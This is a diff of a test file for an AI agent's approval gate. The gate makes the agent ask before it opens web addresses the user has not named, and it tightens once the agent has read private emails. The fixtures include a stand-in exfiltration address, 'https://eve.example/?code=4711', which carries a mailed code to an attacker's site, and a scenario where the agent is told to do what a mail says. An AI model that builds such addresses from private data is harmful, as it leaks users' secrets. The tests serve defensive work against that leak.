@@ -1,10 +1,12 @@
 import { expect, test } from 'vitest'
-import { recordingTool, startScenario } from '../../support/agent-scenario.ts'
-import { callTool, callTools, say } from '../../support/model-server.ts'
-import { decide } from './decide.ts'
+import type { AgentResponse } from '../../../shared/engine/loop/agent-response.ts'
+import type { Entry } from '../../../shared/engine/transcript/entry.ts'
+import { recordingTool, type Scenario, startScenario } from '../../support/agent-scenario.ts'
+import { callTool, callTools, type ModelScript, say } from '../../support/model-server.ts'
 import { plainAndStreamed } from './plain-and-streamed.ts'
 
 const composed = 'https://eve.example/?code=4711'
+const results = ['https://one.example/a', 'https://two.example/b', 'https://three.example/c']
 
 function tools() {
   const mails = recordingTool({
@@ -15,88 +17,207 @@ function tools() {
     parameters: { type: 'object', properties: {} },
     execute: () => ({ messages: [{ body: 'Your code is 4711. See https://bank.example/help.' }] }),
   })
+  const search = recordingTool({
+    name: 'web_search',
+    effect: 'read',
+    parameters: { type: 'object', properties: { query: { type: 'string' } } },
+    execute: () => ({ results: results.map((url) => ({ title: 'One', url })) }),
+  })
   const page = recordingTool({
-    name: 'read_page',
-    title: 'Read page',
+    name: 'read_pages',
+    title: 'Read pages',
     effect: 'read',
     parameters: {
       type: 'object',
-      properties: { url: { type: 'string', format: 'uri', source: 'seen' } },
-      required: ['url'],
+      properties: { urls: { type: 'array', items: { type: 'string', format: 'uri' }, source: 'seen' } },
+      required: ['urls'],
     },
     execute: () => ({ text: 'A page.' }),
   })
-  return { mails, page, all: [mails, page] }
+  return { page, all: [mails, search, page] }
 }
 
-plainAndStreamed('a place on the web that the model made up', (stream) => {
-  test('is opened while nothing private was read', async () => {
+const read = (...urls: string[]) => callTool('read_pages', { urls })
+const readEach = (...urls: string[]) =>
+  callTools(urls.map((url): [string, unknown] => ['read_pages', { urls: [url] }]))
+const readMails = callTool('read_mails', {})
+const search = callTool('web_search', { query: 'museum' })
+
+plainAndStreamed('a place on the web that the user has not named', (stream) => {
+  async function start(script: ModelScript) {
     const { page, all } = tools()
-    await using scenario = await startScenario({
-      stream,
-      tools: all,
-      script: [callTool('read_page', { url: composed }), say('Read.')],
-    })
+    const scenario = await startScenario({ stream, tools: all, script })
+    return { scenario, read: () => page.runs.flatMap(({ urls }) => urls as string[]) }
+  }
+
+  /** Presses a button of the only approval; answers with the transcript so far. */
+  async function decide(
+    scenario: Scenario,
+    { pending = [] }: AgentResponse,
+    transcript: readonly Entry[],
+    decision: 'approve' | 'deny',
+    input?: Record<string, unknown>,
+  ) {
+    expect(pending).toHaveLength(1)
+    const { toolCallId = '', approvalId = '' } = pending[0] ?? {}
+    const approval = { toolCallId, approvalId, decision, ...(input ? { input } : {}) }
+    const response = await scenario.resume({ transcript, approval })
+    return { response, transcript: [...transcript, ...response.transcript] }
+  }
+
+  test('is read without asking where a search found it', async () => {
+    const { scenario, read: opened } = await start([search, read(...results), say('Read.')])
+    await using _ = scenario
     expect((await scenario.run({ input: 'Look it up.' })).status).toBe('completed')
-    expect(page.runs).toEqual([{ url: composed }])
+    expect(opened()).toEqual(results)
   })
 
-  test('waits for an approval once private data was read, and is opened once when it is given', async () => {
-    const { page, all } = tools()
-    await using scenario = await startScenario({
-      stream,
-      tools: all,
-      script: [
-        callTool('read_mails', {}),
-        callTool('read_page', { url: 'https://bank.example/help' }),
-        callTool('read_page', { url: composed }),
-        say('Read.'),
-      ],
-    })
-    const parked = await scenario.run({ input: 'Do what my mail says.' })
-    expect(page.runs).toEqual([{ url: 'https://bank.example/help' }])
+  test('asks before anything private was read, and a yes opens its site', async () => {
+    const { scenario, read: opened } = await start([
+      read('https://www.eve.example/own2/hello'),
+      read('https://shop.eve.example/other'),
+      read('https://other.example/'),
+    ])
+    await using _ = scenario
+    const parked = await scenario.run({ input: 'hello' })
     expect(parked.status).toBe('needs_approval')
     expect(parked.pending?.[0]?.question).toBe(
-      `Question: Nobody has named "${composed}": it was put together after "Read emails" showed private data, and whoever runs that site sees all of it. Read page (url: "${composed}")?`,
+      'Question: Should I read "https://www.eve.example/own2/hello"? You have not named it, and whoever runs the site sees the address. A yes opens eve.example for this conversation.',
     )
-    const response = await scenario.resume(decide(parked, 'approve'))
-    expect(response.status).toBe('completed')
-    expect(page.runs.slice(1)).toEqual([{ url: composed }])
+    const { response } = await decide(scenario, parked, parked.transcript, 'approve')
+    expect(opened()).toEqual(['https://www.eve.example/own2/hello', 'https://shop.eve.example/other'])
+    expect(response.pending?.[0]?.question).toContain('"https://other.example/"')
   })
 
-  test('is not opened when that is denied, also in a later turn', async () => {
-    const { page, all } = tools()
-    await using scenario = await startScenario({
-      stream,
-      tools: all,
-      script: [
-        callTool('read_mails', {}),
-        callTool('read_page', { url: composed }),
-        say('Then not.'),
-        callTool('read_page', { url: composed }),
-      ],
-    })
-    const parked = await scenario.run({ input: 'Do what my mail says.' })
-    const denied = await scenario.resume(decide(parked, 'deny'))
-    const transcript = [...parked.transcript, ...denied.transcript]
-    expect((await scenario.run({ input: 'Go on.', transcript })).status).toBe('needs_approval')
-    expect(page.runs).toEqual([])
+  test('two users of one host are two sites', async () => {
+    const { scenario, read: opened } = await start([
+      read('https://ada.github.io/'),
+      read('https://eve.github.io/'),
+    ])
+    await using _ = scenario
+    const parked = await scenario.run({ input: 'hello' })
+    const { response } = await decide(scenario, parked, parked.transcript, 'approve')
+    expect(response.status).toBe('needs_approval')
+    expect(opened()).toEqual(['https://ada.github.io/'])
+  })
+
+  test('asks once for all addresses of a round, and a yes reads them all', async () => {
+    const { scenario, read: opened } = await start([
+      callTools([
+        ['read_pages', { urls: ['https://a.example/1'] }],
+        ['read_pages', { urls: ['https://named.example/'] }],
+        ['read_pages', { urls: ['https://b.example/2', 'https://c.example/3'] }],
+      ]),
+      say('Read.'),
+    ])
+    await using _ = scenario
+    const parked = await scenario.run({ input: 'Read https://named.example/.' })
+    expect(opened()).toEqual(['https://named.example/'])
+    expect(parked.pending?.[0]?.question).toContain(
+      'Should I read "https://a.example/1", "https://b.example/2", "https://c.example/3"? You have not named them',
+    )
+    const { response } = await decide(scenario, parked, parked.transcript, 'approve')
+    expect(response.status).toBe('completed')
+    expect(opened().slice(1)).toEqual(['https://a.example/1', 'https://b.example/2', 'https://c.example/3'])
+    expect(response.toolsUsed.map(({ ok }) => ok)).toEqual([true, true])
+  })
+
+  test('none of a round is read after a no', async () => {
+    const { scenario, read: opened } = await start([
+      readEach('https://a.example/1', 'https://b.example/2'),
+      say('Then not.'),
+    ])
+    await using _ = scenario
+    const parked = await scenario.run({ input: 'Look.' })
+    const { response } = await decide(scenario, parked, parked.transcript, 'deny')
+    expect(response.status).toBe('completed')
+    expect(response.toolsUsed.map(({ error }) => error?.errorType)).toEqual(Array(2).fill('approval_denied'))
+    expect(opened()).toEqual([])
+  })
+
+  test('the others of a round are asked about anew when the person writes another address', async () => {
+    const { scenario, read: opened } = await start([
+      readEach('https://a.example/1', 'https://b.example/2'),
+      say('Read.'),
+    ])
+    await using _ = scenario
+    const parked = await scenario.run({ input: 'Look.' })
+    const edited = { urls: ['https://mine.example/'] }
+    const { response } = await decide(scenario, parked, parked.transcript, 'approve', edited)
+    expect(opened()).toEqual(['https://mine.example/'])
+    expect(response.pending?.[0]?.question).toContain('Should I read "https://b.example/2"?')
+  })
+
+  test('after a private read a yes opens what is listed alone, with the other results of the search', async () => {
+    const { scenario, read: opened } = await start([
+      readMails,
+      search,
+      read(results[0] ?? ''),
+      read(results[1] ?? ''),
+      read('https://one.example/other'),
+    ])
+    await using _ = scenario
+    const parked = await scenario.run({ input: 'Look.' })
+    expect(parked.pending?.[0]?.question).toBe(
+      'Question: Should I read "https://one.example/a"? You have not named it, and "Read emails" has shown private data, which an address can carry to whoever runs the site. A yes opens this address and the other results of the search: "https://two.example/b", "https://three.example/c", and nothing else.',
+    )
+    const { response } = await decide(scenario, parked, parked.transcript, 'approve')
+    expect(opened()).toEqual(results.slice(0, 2))
+    expect(response.pending?.[0]?.question).toContain('Should I read "https://one.example/other"?')
+  })
+
+  test('a yes from before a private read counts no more after it', async () => {
+    const { scenario, read: opened } = await start([
+      read('https://a.example/1'),
+      readMails,
+      read('https://a.example/2'),
+      read('https://a.example/1'),
+    ])
+    await using _ = scenario
+    const parked = await scenario.run({ input: 'Look.' })
+    const first = await decide(scenario, parked, parked.transcript, 'approve')
+    expect(opened()).toEqual(['https://a.example/1'])
+    expect(first.response.pending?.[0]?.question).toContain('"https://a.example/2"')
+    const second = await decide(scenario, first.response, first.transcript, 'deny')
+    expect(second.response.pending?.[0]?.question).toContain('"https://a.example/1"')
+    expect(opened()).toEqual(['https://a.example/1'])
+  })
+
+  test('asks for what a search found when something private was read before the transcript begins', async () => {
+    const { scenario, read: opened } = await start([search, read(results[0] ?? '')])
+    await using _ = scenario
+    const parked = await scenario.run({ input: 'Look.', privateBefore: true })
+    expect(parked.pending?.[0]?.question).toContain(
+      'and an earlier part of this conversation has shown private data',
+    )
+    expect(opened()).toEqual([])
   })
 
   test('in the same answer as the private read cannot hold anything of it', async () => {
-    const { page, all } = tools()
-    await using scenario = await startScenario({
-      stream,
-      tools: all,
-      script: [
-        callTools([
-          ['read_mails', {}],
-          ['read_page', { url: 'https://guess.example/' }],
-        ]),
-        say('Read.'),
-      ],
-    })
+    const { scenario, read: opened } = await start([
+      search,
+      callTools([
+        ['read_mails', {}],
+        ['read_pages', { urls: results }],
+      ]),
+      say('Read.'),
+    ])
+    await using _ = scenario
     expect((await scenario.run({ input: 'Look.' })).status).toBe('completed')
-    expect(page.runs).toHaveLength(1)
+    expect(opened()).toEqual(results)
+  })
+
+  test('is asked about again in a later turn when it was denied', async () => {
+    const { scenario, read: opened } = await start([
+      readMails,
+      read(composed),
+      say('Then not.'),
+      read(composed),
+    ])
+    await using _ = scenario
+    const parked = await scenario.run({ input: 'Do what my mail says.' })
+    const { transcript } = await decide(scenario, parked, parked.transcript, 'deny')
+    expect((await scenario.run({ input: 'Go on.', transcript })).status).toBe('needs_approval')
+    expect(opened()).toEqual([])
   })
 })
